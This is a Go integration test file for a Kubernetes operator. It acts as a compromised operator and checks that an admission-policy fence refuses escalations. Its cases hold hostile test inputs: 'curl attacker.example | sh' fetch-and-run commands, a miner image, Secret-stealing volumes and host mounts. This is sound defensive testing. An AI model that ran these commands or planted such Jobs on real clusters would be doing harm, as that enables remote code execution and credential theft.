package run_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/envtest"
	"sigs.k8s.io/yaml"

	"github.com/dgdr-operator/dgdr-operator/api/config/v1alpha1"
	"github.com/dgdr-operator/dgdr-operator/api/v1beta2"
	"github.com/dgdr-operator/dgdr-operator/internal/aisimulate"
	"github.com/dgdr-operator/dgdr-operator/internal/calibration"
	"github.com/dgdr-operator/dgdr-operator/internal/controller/request"
	"github.com/dgdr-operator/dgdr-operator/internal/controller/run"
	"github.com/dgdr-operator/dgdr-operator/internal/jobcontract"
	"github.com/dgdr-operator/dgdr-operator/internal/modelaccess"
	"github.com/dgdr-operator/dgdr-operator/internal/promote"
	"github.com/dgdr-operator/dgdr-operator/internal/testing/builders"
	testenv "github.com/dgdr-operator/dgdr-operator/internal/testing/env"
	"github.com/dgdr-operator/dgdr-operator/internal/testing/poll"
	"github.com/dgdr-operator/dgdr-operator/internal/testing/upstreamcrd"
	"github.com/dgdr-operator/dgdr-operator/internal/verification"
)

// generatedRules are the rules of the generated ClusterRole (config/rbac/role.yaml), which the
// chart grants the operator (hack/chartgen).
func generatedRules(t *testing.T) []rbacv1.PolicyRule {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(testenv.Root(), "config", "rbac", "role.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var generated rbacv1.ClusterRole
	if err := yaml.UnmarshalStrict(data, &generated); err != nil {
		t.Fatal(err)
	}
	return generated.Rules
}

// fencedOperator returns a client authenticated as a fresh ServiceAccount ns/name holding exactly
// the generated ClusterRole, bound cluster-wide (the chart's binding when watchNamespaces is
// empty), under the chart's fence for that user and fenceCfg (jobcontract.OperatorFencePolicy),
// once the API server enforces it.
func fencedOperator(t *testing.T, ns, name string, fenceCfg *v1alpha1.OperatorConfiguration) client.Client {
	t.Helper()
	ctx := context.Background()
	admin := mustClient(t)
	operator := asOperator(t, ns, name, generatedRules(t))
	policy, binding := jobcontract.OperatorFencePolicy(jobcontract.FenceOptionsFor("system:serviceaccount:"+ns+":"+name, fenceCfg))
	policy.Name, binding.Name, binding.Spec.PolicyName = "fence-"+ns, "fence-"+ns, "fence-"+ns
	for _, obj := range []client.Object{policy, binding} {
		if err := admin.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { _ = admin.Delete(ctx, binding); _ = admin.Delete(ctx, policy) })
	// The API server loads policies asynchronously: wait until a forbidden write is refused.
	poll.Eventually(t, 30*time.Second, "the fence refusing a ConfigMap in kube-system", func() (bool, error) {
		err := operator.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "fence-probe"}}, client.DryRunAll)
		return apierrors.IsForbidden(err), nil
	})
	return operator
}

// fenceConfig is the package's operator configuration with what the fence also pins: configured
// search arguments and a verification image.
func fenceConfig() *v1alpha1.OperatorConfiguration {
	c := cfg.DeepCopy()
	c.Planner.Args = []string{"--seed", "7"}
	c.Verification.Image = "registry.example/aiperf:0.13.0"
	return c
}

// TestOperatorIsFenced plays a compromised operator: a ServiceAccount holding exactly the
// generated ClusterRole, bound cluster-wide (the chart's binding when watchNamespaces is empty),
// under the chart's fence (jobcontract.OperatorFencePolicy for its user and the configuration).
// It may still do its job (apply the search-identity policy, patch its own CRD, create the search
// identity and Job of a Run), and is refused (403) on a foreign CRD, on any other admission
// policy, on a Job in kube-system, on a Job with another image or ServiceAccount, and on
// ServiceAccounts, Roles and RoleBindings under other names. Reverted (CRD and policy rules
// without resourceNames, no fence), every one of these succeeds.
func TestOperatorIsFenced(t *testing.T) {
	ctx := context.Background()
	admin := mustClient(t)
	ns := testenv.Namespace(t, k8s, "t")
	operator := fencedOperator(t, ns, "fenced-operator", cfg)
	s := runtime.NewScheme()
	if err := clientgoscheme.AddToScheme(s); err != nil {
		t.Fatal(err)
	}
	if err := apiextensionsv1.AddToScheme(s); err != nil {
		t.Fatal(err)
	}
	rawOperator, err := client.New(operatorConfig(ns, "fenced-operator"), client.Options{Scheme: s})
	if err != nil {
		t.Fatal(err)
	}

	r := createRun(t, ns, "fenced", nil)
	waitForJob(t, r)
	r = getRun(t, r)
	job := run.BuildJob(r, cfg)
	job.Name = "probe-job"

	foreignCRD := &apiextensionsv1.CustomResourceDefinition{
		ObjectMeta: metav1.ObjectMeta{Name: "widgets.fence.example.com"},
		Spec: apiextensionsv1.CustomResourceDefinitionSpec{Group: "fence.example.com", Scope: apiextensionsv1.NamespaceScoped,
			Names: apiextensionsv1.CustomResourceDefinitionNames{Plural: "widgets", Singular: "widget", Kind: "Widget", ListKind: "WidgetList"},
			Versions: []apiextensionsv1.CustomResourceDefinitionVersion{{Name: "v1", Served: true, Storage: true,
				Schema: &apiextensionsv1.CustomResourceValidation{OpenAPIV3Schema: &apiextensionsv1.JSONSchemaProps{Type: "object"}}}}},
	}
	crdClient, err := client.New(env.Config, client.Options{Scheme: s})
	if err != nil {
		t.Fatal(err)
	}
	if err := crdClient.Create(ctx, foreignCRD); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	label := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"pwned":"true"}}}`))
	tenantConfigMap := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant-settings"}}
	if err := admin.Create(ctx, tenantConfigMap); err != nil {
		t.Fatal(err)
	}
	badImage := job.DeepCopy()
	badImage.Name = "probe-bad-image"
	badImage.Spec.Template.Spec.Containers[0].Image = "attacker/miner:latest"
	badAccount := job.DeepCopy()
	badAccount.Name = "probe-bad-account"
	badAccount.Spec.Template.Spec.ServiceAccountName = "default"
	attacks := map[string]func() error{
		"patch a foreign CRD": func() error {
			return rawOperator.Patch(ctx, &apiextensionsv1.CustomResourceDefinition{ObjectMeta: metav1.ObjectMeta{Name: foreignCRD.Name}}, label)
		},
		"create an arbitrary admission policy": func() error {
			p, _ := jobcontract.SearchIdentityPolicy()
			p.Name = "attacker-policy"
			return rawOperator.Create(ctx, p)
		},
		"create a Job in kube-system": func() error {
			j := job.DeepCopy()
			j.Namespace, j.OwnerReferences = "kube-system", nil
			return operator.Create(ctx, j)
		},
		"create a Job with another image":          func() error { return operator.Create(ctx, badImage) },
		"create a Job with another ServiceAccount": func() error { return operator.Create(ctx, badAccount) },
		"create a ServiceAccount named otherwise": func() error {
			return operator.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "builder"}})
		},
		"create a RoleBinding named otherwise": func() error {
			return operator.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "admin-for-me"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: jobcontract.ReporterRole},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "default", Namespace: ns}}})
		},
		"create a ConfigMap other than the calibration profile": func() error {
			return operator.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "kube-root-ca-copy", Labels: calibration.Labels}})
		},
		"create the calibration profile without the operator's label": func() error {
			return operator.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: calibration.ConfigMapName}})
		},
		"update a tenant's ConfigMap": func() error {
			return operator.Patch(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: tenantConfigMap.Name}}, label)
		},
	}
	for name, attack := range attacks {
		if err := attack(); !apierrors.IsForbidden(err) {
			t.Errorf("%s as the fenced operator: err = %v, want 403 Forbidden", name, err)
		}
	}

	// Its own work still passes.
	if err := rawOperator.Patch(ctx, &apiextensionsv1.CustomResourceDefinition{ObjectMeta: metav1.ObjectMeta{Name: "dynamographdeploymentruns.nvidia.com"}},
		client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"fence-test":"`+ns+`"}}}`))); err != nil {
		t.Errorf("the operator patching its own CRD: %v", err)
	}
	if err := admin.Delete(ctx, &admissionregistrationv1.ValidatingAdmissionPolicyBinding{ObjectMeta: metav1.ObjectMeta{Name: jobcontract.SearchIdentityPolicyName}}); client.IgnoreNotFound(err) != nil {
		t.Fatal(err)
	}
	if err := jobcontract.ApplySearchIdentityPolicy(ctx, rawOperator); err != nil {
		t.Errorf("the operator applying the search-identity policy (creating its binding by name): %v", err)
	}
	sa, rb := run.BuildSearchIdentity(r)
	sa.Name, rb.Name = jobcontract.SearchIdentityPrefix+"probe", jobcontract.SearchIdentityPrefix+"probe"
	for _, obj := range []client.Object{sa, rb, job} {
		if err := operator.Create(ctx, obj); err != nil {
			t.Errorf("the fenced operator creating %T %s: %v", obj, obj.GetName(), err)
		}
	}
	// The namespace's calibration profile: created, then updated, also when the tenant created it
	// without the operator's label (the operator's write adds it).
	for i := range 2 {
		obs := calibration.Observation{Key: calibration.Key{Backend: "vllm", System: "h100_sxm", Model: "m", Mode: "aggregated", Parallelism: "agg:tp1"},
			Metrics:    map[string]calibration.Pair{calibration.MetricTTFTMs: {Predicted: 1, Observed: 2}},
			MeasuredAt: time.Date(2026, 1, 1, 0, i, 0, 0, time.UTC), Source: fmt.Sprintf("%s/req@gen%d", ns, i)}
		if err := calibration.Record(ctx, admin, operator, ns, obs); err != nil {
			t.Errorf("the fenced operator recording observation %d in the namespace's calibration profile: %v", i, err)
		}
	}
	other := testenv.Namespace(t, k8s, "t")
	if err := admin.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: other, Name: calibration.ConfigMapName}}); err != nil {
		t.Fatal(err)
	}
	obs := calibration.Observation{Key: calibration.Key{Backend: "vllm", System: "h100_sxm", Model: "m", Mode: "aggregated", Parallelism: "agg:tp1"},
		Metrics:    map[string]calibration.Pair{calibration.MetricTTFTMs: {Predicted: 1, Observed: 2}},
		MeasuredAt: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), Source: other + "/req@gen1"}
	if err := calibration.Record(ctx, admin, operator, other, obs); err != nil {
		t.Errorf("the fenced operator recording in a profile the tenant created: %v", err)
	}
}

// fenceRun is a Run as the Run controller has it when it builds the Job (UID, recorded input
// hash), in namespace ns; mutate gives it the model access, trace or re-search of a case.
func fenceRun(ns, name string, mutate func(*v1beta2.DynamoGraphDeploymentRun)) *v1beta2.DynamoGraphDeploymentRun {
	r := &v1beta2.DynamoGraphDeploymentRun{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, UID: types.UID("00000000-0000-4000-8000-0000000000" + name[len(name)-2:]),
		Labels: map[string]string{v1beta2.LabelRequestName: "req"}}, Spec: admittedSpec()}
	r.Status.AISimulate = &v1beta2.AISimulateStatus{InputHash: "sha256:in"}
	if mutate != nil {
		mutate(r)
	}
	return r
}

// withModelAccess gives the Run a token Secret and a model cache claim.
func withModelAccess(r *v1beta2.DynamoGraphDeploymentRun) {
	r.Spec.Model.TokenSecretRef = &v1beta2.TokenSecretReference{Name: "hf", Key: "token"}
	r.Spec.Model.Cache = &v1beta2.ModelCacheSpec{PVC: &v1beta2.ModelCachePVC{ClaimName: "models", Path: "hf"}}
}

// asResearch makes the Run a re-search of a deployment with capture, its window cut from the
// capture claim (pruned: the claim is writable) and reported by the search's input container,
// with a recorded baseline (whose Job cuts the window again).
func asResearch(r *v1beta2.DynamoGraphDeploymentRun) {
	withModelAccess(r)
	r.Labels[v1beta2.LabelRequestUID] = "00000000-0000-4000-8000-00000000aaaa"
	r.Annotations = map[string]string{v1beta2.AnnotationResearchWindowEnd: "2026-12-03T12:00:00Z"}
	r.Spec.Workload = &v1beta2.WorkloadSpec{Trace: &v1beta2.TraceWorkload{
		Source: &v1beta2.TraceSource{PVC: &v1beta2.TracePVCSource{ClaimName: "traffic", Path: "t.jsonl"}}}}
	r.Spec.Deployment = &v1beta2.DeploymentSpec{Capture: &v1beta2.CaptureSpec{Enabled: ptr.To(true), ClaimName: "traffic",
		Rotation: &v1beta2.CaptureRotation{MaxAgeHours: ptr.To[int32](48)}}}
	r.Spec.Research = &v1beta2.ResearchSpec{IntervalMinutes: 60, WindowMinutes: ptr.To[int32](360), MinRequests: ptr.To[int32](50)}
	r.Status.AISimulate.Baseline = &v1beta2.BaselineInputStatus{Candidate: "llama-run-1-0001",
		Input: &runtime.RawExtension{Raw: []byte(`{"engine":{}}`)}, InputHash: "sha256:base"}
	end := metav1.NewTime(time.Date(2026, 12, 3, 12, 0, 0, 0, time.UTC))
	r.Status.AISimulate.Trace = &v1beta2.TraceSourceStatus{Window: &v1beta2.TraceWindowStatus{ClaimName: "traffic",
		Start: ptr.To(metav1.NewTime(end.Add(-6 * time.Hour))), End: &end, Requests: ptr.To[int64](120), SHA256: "sha256:" + strings.Repeat("ab", 32)}}
}

// verificationJob is the operator's verification Job (verification.BuildJob) of a request in ns.
func verificationJob(ns string, c *v1alpha1.OperatorConfiguration) *batchv1.Job {
	dgdr := &v1beta2.DynamoGraphDeploymentRequest{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "llama", UID: "00000000-0000-4000-8000-00000000aaaa"}}
	p := &verification.Plan{Load: v1beta2.VerificationLoad{Concurrency: ptr.To[int32](4), InputTokens: ptr.To[int32](512), OutputTokens: ptr.To[int32](64)},
		Requests: 50, MaxDurationSeconds: 90}
	return verification.BuildJob(dgdr, p, verification.Target{URL: "http://llama-frontend." + ns + ".svc:8000", Model: "org/llama", Deployment: "llama", Generation: 3}, c)
}

// traceVerificationJob is the operator's verification Job replaying the request's trace from src
// at its timestamps.
func traceVerificationJob(ns string, c *v1alpha1.OperatorConfiguration, src v1beta2.TraceSource) *batchv1.Job {
	dgdr := &v1beta2.DynamoGraphDeploymentRequest{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "llama", UID: "00000000-0000-4000-8000-00000000aaaa"}}
	w := &v1beta2.TraceWorkload{Source: &src}
	p := &verification.Plan{MaxDurationSeconds: 90, Trace: &verification.TraceReplay{Source: src, Path: aisimulate.TracePath(w),
		Format: v1beta2.TraceFormatMooncake, Speedup: ptr.To(1.0)}}
	return verification.BuildJob(dgdr, p, verification.Target{URL: "http://llama-frontend." + ns + ".svc:8000", Model: "org/llama", Deployment: "llama", Generation: 3}, c)
}

var (
	configMapTrace = v1beta2.TraceSource{ConfigMap: &v1beta2.TraceConfigMapSource{Name: "trace", Key: "t.jsonl"}}
	claimTrace     = v1beta2.TraceSource{PVC: &v1beta2.TracePVCSource{ClaimName: "traces", Path: "team/t.jsonl"}}
)

// TestOperatorFenceAdmitsItsOwnJobs: every Job the operator builds passes its fence: the search
// Job of a plain Run, with model access (token Secret, cache claim), with a trace from a
// ConfigMap or a claim, and a re-search's (window cut from the capture claim), the re-search's
// baseline Job (the window cut again, the predict command), and the verification Job. Before,
// the fence refused the verification Job (no search identity), so every verification failed
// with 403; and it admitted only the baseline as a container of the search pod.
func TestOperatorFenceAdmitsItsOwnJobs(t *testing.T) {
	ctx := context.Background()
	ns := testenv.Namespace(t, k8s, "t")
	c := fenceConfig()
	operator := fencedOperator(t, ns, "operator", c)
	jobs := map[string]*batchv1.Job{
		"search":                   run.BuildJob(fenceRun(ns, "run-01", nil), c),
		"search with model access": run.BuildJob(fenceRun(ns, "run-02", withModelAccess), c),
		"search of a ConfigMap trace": run.BuildJob(fenceRun(ns, "run-03", func(r *v1beta2.DynamoGraphDeploymentRun) {
			r.Spec.Workload = &v1beta2.WorkloadSpec{Trace: &v1beta2.TraceWorkload{
				Source: &v1beta2.TraceSource{ConfigMap: &v1beta2.TraceConfigMapSource{Name: "trace", Key: "t.jsonl"}}}}
		}), c),
		"search of a claim trace": run.BuildJob(fenceRun(ns, "run-04", func(r *v1beta2.DynamoGraphDeploymentRun) {
			withModelAccess(r)
			r.Spec.Workload = &v1beta2.WorkloadSpec{Trace: &v1beta2.TraceWorkload{
				Source: &v1beta2.TraceSource{PVC: &v1beta2.TracePVCSource{ClaimName: "traces", Path: "t.jsonl"}}}}
		}), c),
		"re-search with capture": run.BuildJob(fenceRun(ns, "run-05", asResearch), c),
		"baseline":               run.BuildBaselineJob(fenceRun(ns, "run-06", asResearch), c),
		"verification":           verificationJob(ns, c),
		"verification replaying a ConfigMap trace": traceVerificationJob(ns, c, configMapTrace),
		"verification replaying a claim trace":     traceVerificationJob(ns, c, claimTrace),
	}
	for _, name := range []string{"re-search with capture", "baseline"} {
		spec := jobs[name].Spec.Template.Spec
		if len(spec.InitContainers) != 2 || len(spec.Containers) != 2 || !hasVolume(spec, jobcontract.CaptureVolume) || !hasVolume(spec, modelaccess.VolumeName) {
			t.Fatalf("the %s Job lacks its reporter sidecar, its publication container or the capture and cache volumes: %+v", name, spec)
		}
	}
	for name, job := range jobs {
		if err := operator.Create(ctx, job, client.DryRunAll); err != nil {
			t.Errorf("the fenced operator creating its %s Job: %v", name, err)
		}
	}
}

func hasVolume(spec corev1.PodSpec, name string) bool {
	for _, v := range spec.Volumes {
		if v.Name == name {
			return true
		}
	}
	return false
}

// containerNamed returns the named container of spec (init containers too).
func containerNamed(spec *corev1.PodSpec, name string) *corev1.Container {
	for i := range spec.InitContainers {
		if spec.InitContainers[i].Name == name {
			return &spec.InitContainers[i]
		}
	}
	for i := range spec.Containers {
		if spec.Containers[i].Name == name {
			return &spec.Containers[i]
		}
	}
	return nil
}

// TestOperatorFenceRefusesOtherJobs plays a compromised operator creating, in a tenant namespace,
// a Job shaped like its own with one change that would let it run other code, read a Secret, or
// reach the node: each is refused (403) with a message naming what the fence admits. Without
// the rule that refuses it, each is admitted (the operator's RBAC allows any Job).
func TestOperatorFenceRefusesOtherJobs(t *testing.T) {
	ctx := context.Background()
	ns := testenv.Namespace(t, k8s, "t")
	c := fenceConfig()
	operator := fencedOperator(t, ns, "operator", c)
	search := run.BuildJob(fenceRun(ns, "run-01", asResearch), c)
	baseline := run.BuildBaselineJob(fenceRun(ns, "run-02", asResearch), c)
	verify := verificationJob(ns, c)
	secretVolume := corev1.Volume{Name: "loot", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "db-credentials"}}}
	cases := []struct {
		name   string
		base   *batchv1.Job
		mutate func(*corev1.PodSpec)
		want   string // in the refusal's message
	}{
		{"an extra Secret volume", search, func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, secretVolume)
			s := containerNamed(p, jobcontract.SearchContainer)
			s.VolumeMounts = append(s.VolumeMounts, corev1.VolumeMount{Name: "loot", MountPath: "/loot"})
		}, "not loot"},
		{"a Secret volume under the cache's name", search, func(p *corev1.PodSpec) {
			for i := range p.Volumes {
				if p.Volumes[i].Name == modelaccess.VolumeName {
					p.Volumes[i].VolumeSource = corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "db-credentials"}}
				}
			}
		}, "not " + modelaccess.VolumeName},
		{"a Secret projected into the token volume", search, func(p *corev1.PodSpec) {
			for i := range p.Volumes {
				if p.Volumes[i].Name == jobcontract.TokenVolume {
					p.Volumes[i].Projected.Sources = append(p.Volumes[i].Projected.Sources, corev1.VolumeProjection{
						Secret: &corev1.SecretProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "db-credentials"}}})
				}
			}
		}, "not " + jobcontract.TokenVolume},
		{"a Secret volume in the verification Job", verify, func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, secretVolume)
		}, "not loot"},
		{"a hostPath volume", search, func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}, "not host"},
		{"a privileged container", search, func(p *corev1.PodSpec) {
			// The API server refuses privileged with allowPrivilegeEscalation: false itself.
			sc := containerNamed(p, jobcontract.ReporterContainer).SecurityContext
			sc.Privileged, sc.AllowPrivilegeEscalation = ptr.To(true), nil
		}, "refused in " + jobcontract.ReporterContainer},
		{"an added capability", verify, func(p *corev1.PodSpec) {
			p.Containers[0].SecurityContext.Capabilities.Add = []corev1.Capability{"NET_ADMIN"}
		}, "refused in " + verification.ContainerName},
		{"privilege escalation", search, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.InputContainer).SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
		}, "refused in " + jobcontract.InputContainer},
		{"the host network", search, func(p *corev1.PodSpec) { p.HostNetwork = true }, "no host network"},
		{"the host PID namespace", verify, func(p *corev1.PodSpec) { p.HostPID = true }, "no host network, PID"},
		{"another search command", search, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.SearchContainer).Command = []string{"sh", "-c", "curl attacker.example | sh"}
		}, "search (" + c.Planner.Image + ")"},
		{"other search arguments", search, func(p *corev1.PodSpec) {
			s := containerNamed(p, jobcontract.SearchContainer)
			s.Args = append(s.Args, "--plugin", "/loot/x.py")
		}, "running " + strings.Join(c.Planner.Command, " ")},
		{"another baseline command", baseline, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.BaselineContainer).Command = []string{"python3", "-c", "import os"}
		}, "or container " + jobcontract.BaselineContainer},
		{"the search and the baseline in one pod", search, func(p *corev1.PodSpec) {
			p.Containers = append(p.Containers, *containerNamed(&baseline.Spec.Template.Spec, jobcontract.BaselineContainer))
		}, "baseline (" + c.Planner.Image + ")"},
		{"a search pod without its publication container", search, func(p *corev1.PodSpec) {
			p.Containers = p.Containers[:1]
		}, "beside container " + jobcontract.PublicationContainer},
		{"another publication command", search, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.PublicationContainer).Args = []string{"report", "--await-outcome", "/tmp/never"}
		}, "args " + strings.Join(jobcontract.PublicationArgs, " ")},
		{"the reporter as a regular init container", search, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.ReporterContainer).RestartPolicy = nil
		}, "with restartPolicy Always"},
		{"the input container as a sidecar", baseline, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.InputContainer).RestartPolicy = ptr.To(corev1.ContainerRestartPolicyAlways)
		}, "init container " + jobcontract.InputContainer},
		{"the token mounted into the publication container", baseline, func(p *corev1.PodSpec) {
			pub := containerNamed(p, jobcontract.PublicationContainer)
			pub.VolumeMounts = append(pub.VolumeMounts, corev1.VolumeMount{Name: jobcontract.TokenVolume, MountPath: jobcontract.TokenDir})
		}, jobcontract.PublicationContainer + ": " + jobcontract.TokenVolume + " at " + jobcontract.TokenDir},
		{"an environment variable in the publication container", search, func(p *corev1.PodSpec) {
			pub := containerNamed(p, jobcontract.PublicationContainer)
			pub.Env = append(pub.Env, corev1.EnvVar{Name: jobcontract.EnvRunName, Value: "other"})
		}, jobcontract.PublicationContainer + ": " + jobcontract.EnvRunName},
		{"a command for the reporter image", search, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.ReporterContainer).Command = []string{"/bin/sh"}
		}, "its entrypoint"},
		{"another verification program", verify, func(p *corev1.PodSpec) {
			p.Containers[0].Args[1] = "import os; os.system('curl attacker.example | sh')"
		}, "verification program"},
		{"an extra container", search, func(p *corev1.PodSpec) {
			p.Containers = append(p.Containers, corev1.Container{Name: "miner", Image: c.Planner.Image, Command: c.Planner.Command})
		}, "miner (" + c.Planner.Image + ")"},
		{"a lifecycle hook", search, func(p *corev1.PodSpec) {
			containerNamed(p, jobcontract.SearchContainer).Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{
				Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "curl attacker.example | sh"}}}}
		}, "no lifecycle hooks or probes, refused in " + jobcontract.SearchContainer},
		{"the token mounted into the search container", search, func(p *corev1.PodSpec) {
			s := containerNamed(p, jobcontract.SearchContainer)
			s.VolumeMounts = append(s.VolumeMounts, corev1.VolumeMount{Name: jobcontract.TokenVolume, MountPath: jobcontract.TokenDir})
		}, jobcontract.TokenVolume + " at " + jobcontract.TokenDir},
		{"a writable volume over the image's code", verify, func(p *corev1.PodSpec) {
			p.Containers[0].VolumeMounts = append(p.Containers[0].VolumeMounts, corev1.VolumeMount{Name: verification.TmpVolume, MountPath: "/usr/lib/python3"})
		}, "at /usr/lib/python3"},
		{"an environment variable of the attacker's", search, func(p *corev1.PodSpec) {
			s := containerNamed(p, jobcontract.SearchContainer)
			s.Env = append(s.Env, corev1.EnvVar{Name: "PYTHONPATH", Value: "/var/run/dgdr/trace"})
		}, "PYTHONPATH"},
		{"another Secret read into the environment", search, func(p *corev1.PodSpec) {
			r := containerNamed(p, jobcontract.ReporterContainer)
			r.EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "db-credentials"}}}}
		}, jobcontract.ReporterContainer + ": envFrom"},
		{"a Secret read under a variable of the operator's", search, func(p *corev1.PodSpec) {
			r := containerNamed(p, jobcontract.ReporterContainer)
			r.Env[0].Value, r.Env[0].ValueFrom = "", &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{
				LocalObjectReference: corev1.LocalObjectReference{Name: "db-credentials"}, Key: "password"}}
		}, jobcontract.ReporterContainer + ": " + jobcontract.EnvRunName},
		{"a block device", search, func(p *corev1.PodSpec) {
			s := containerNamed(p, jobcontract.SearchContainer)
			s.VolumeDevices = []corev1.VolumeDevice{{Name: jobcontract.CaptureVolume, DevicePath: "/dev/xvda"}}
		}, jobcontract.SearchContainer + ": volumeDevices"},
		{"an automounted token", verify, func(p *corev1.PodSpec) { p.AutomountServiceAccountToken = ptr.To(true) }, "automountServiceAccountToken: false"},
		{"a verification Job with a ServiceAccount", verify, func(p *corev1.PodSpec) { p.ServiceAccountName = "builder" }, "only a search Job names a ServiceAccount"},
		{"the token volume in the verification Job", verify, func(p *corev1.PodSpec) {
			for _, v := range search.Spec.Template.Spec.Volumes {
				if v.Name == jobcontract.TokenVolume {
					p.Volumes = append(p.Volumes, v)
				}
			}
		}, "not " + jobcontract.TokenVolume},
		{"a writable trace claim in the verification Job", traceVerificationJob(ns, c, claimTrace), func(p *corev1.PodSpec) {
			p.Volumes[1].PersistentVolumeClaim.ReadOnly = false
		}, "not " + verification.TraceVolume},
		{"another claim under the trace's name in the verification Job", verify, func(p *corev1.PodSpec) {
			p.Volumes = append(p.Volumes, corev1.Volume{Name: verification.TraceVolume, VolumeSource: corev1.VolumeSource{
				PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "db-data"}}})
		}, "not " + verification.TraceVolume},
		{"every key of a ConfigMap in the verification Job", traceVerificationJob(ns, c, configMapTrace), func(p *corev1.PodSpec) {
			p.Volumes[1].ConfigMap.Items = nil
		}, "not " + verification.TraceVolume},
		{"the trace mounted over the image's code", traceVerificationJob(ns, c, configMapTrace), func(p *corev1.PodSpec) {
			p.Containers[0].VolumeMounts[1].MountPath = "/usr/lib/python3"
		}, verification.TraceVolume + " at /usr/lib/python3"},
		{"running as root", verify, func(p *corev1.PodSpec) {
			p.SecurityContext.RunAsNonRoot, p.SecurityContext.RunAsUser = ptr.To(false), ptr.To[int64](0)
			p.Containers[0].SecurityContext.RunAsNonRoot = nil
		}, "non-root"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			job := tc.base.DeepCopy()
			tc.mutate(&job.Spec.Template.Spec)
			err := operator.Create(ctx, job, client.DryRunAll)
			if !apierrors.IsForbidden(err) {
				t.Fatalf("err = %v, want 403 Forbidden", err)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("the refusal %q does not say %q", err, tc.want)
			}
		})
	}
}

// TestOperatorFenceDeletes plays a compromised operator deleting (dry run): nothing in
// kube-system, no Job, ServiceAccount or Run it did not mark as its own, and no kind it never
// deletes; what it made (its search and verification Jobs, the search identity, Runs of a
// request) it still deletes. Before, the fence matched no delete: the operator's RBAC let it
// delete ConfigMaps, ServiceAccounts, RoleBindings and Jobs anywhere.
func TestOperatorFenceDeletes(t *testing.T) {
	ctx := context.Background()
	ns := testenv.Namespace(t, k8s, "t")
	admin := mustClient(t)
	c := fenceConfig()
	operator := fencedOperator(t, ns, "operator", c)
	create := func(obj client.Object) client.Object {
		t.Helper()
		if err := k8s.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		return obj
	}
	systemConfigMap := create(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "fence-" + ns}})
	t.Cleanup(func() { _ = admin.Delete(ctx, systemConfigMap) })
	foreignJob := create(&batchv1.Job{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant-job"},
		Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
			Containers: []corev1.Container{{Name: "main", Image: "registry.example/tenant:1"}}}}}})
	foreignIdentity := create(&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: jobcontract.SearchIdentityPrefix + "tenant"}})
	tenantConfigMap := create(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant-settings"}})
